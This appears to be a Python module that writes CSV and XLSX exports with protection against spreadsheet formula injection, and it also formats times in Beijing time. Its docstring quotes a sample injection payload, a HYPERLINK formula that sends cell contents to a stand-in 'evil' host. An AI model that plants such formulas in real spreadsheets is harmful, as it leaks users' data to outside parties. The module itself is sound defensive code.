"""Writing tables for people to open in a spreadsheet (CSV and XLSX), safe from formula injection.

A cell whose text begins with = + - @, a tab or a carriage return is run as a formula by Excel, WPS
and LibreOffice when the file is opened (CSV injection, OWASP): a building named
``=HYPERLINK("http://evil/?"&A1, "点击")`` would become a live link leaking the row. Every export
writes its tables through this module, so no export can forget it:

- ``escape_cell`` is the one rule: such text gets a leading apostrophe, which the spreadsheet takes as
  "this is text" and does not show;
- ``csv_bytes`` applies it to every cell of a CSV (UTF-8 with a BOM, so Excel reads the Chinese);
- ``xlsx_bytes`` writes every text cell as a string cell, never a formula; text that ``escape_cell``
  would defuse keeps its exact characters and carries the XLSX form of the apostrophe (quotePrefix).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | None
Row = Sequence[Any]


def formula_like(text: str) -> bool:
    """Would a spreadsheet read this text as the start of a formula?"""
    return text[:1] in FORMULA_PREFIXES if text else False


BEIJING = ZoneInfo("Asia/Shanghai")


def beijing_time(moment: datetime) -> str:
    """A moment as people in the county read it, with its zone marked: ``2026-12-20 10:00:00+08:00``
    (Beijing time; a naive datetime is a moment stored in UTC). Exports label such columns 北京时间."""
    aware = moment if moment.tzinfo is not None else moment.replace(tzinfo=UTC)
    return aware.astimezone(BEIJING).isoformat(sep=" ", timespec="seconds")


def escape_cell(value: Any) -> str:
    """The text of one cell, defused: None is empty, a datetime its Beijing time with the zone
    marked, anything else its str(), and formula-like text gets a leading apostrophe. Numbers are text
    too: an export never needs a negative number."""
    text = "" if value is None else beijing_time(value) if isinstance(value, datetime) else str(value)
    return "'" + text if formula_like(text) else text


def csv_bytes(header: Sequence[str], rows: Iterable[Row]) -> bytes:
    """A CSV of ``header`` and ``rows``, every cell through escape_cell, UTF-8 with a BOM."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([escape_cell(h) for h in header])
    writer.writerows([escape_cell(c) for c in row] for row in rows)
    return out.getvalue().encode("utf-8-sig")


def xlsx_bytes(title: str, header: Sequence[str], rows: Iterable[Row]) -> bytes:
    """A one-sheet workbook of ``header`` and ``rows``, every cell a string cell (CPU-bound: run it in
    a thread from async code)."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title[:31]  # Excel's limit for a sheet name
    for r, row in enumerate([list(header), *rows], start=1):
        for c, value in enumerate(row, start=1):
            # Control characters other than tab, LF and CR cannot be stored in the file's XML.
            shown = beijing_time(value) if isinstance(value, datetime) else value
            text = ILLEGAL_CHARACTERS_RE.sub("", "" if shown is None else str(shown))
            cell = sheet.cell(row=r, column=c)
            cell.value = text
            cell.data_type = "s"  # openpyxl takes text starting with "=" as a formula: it is text
            if formula_like(text):
                cell.quotePrefix = True
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
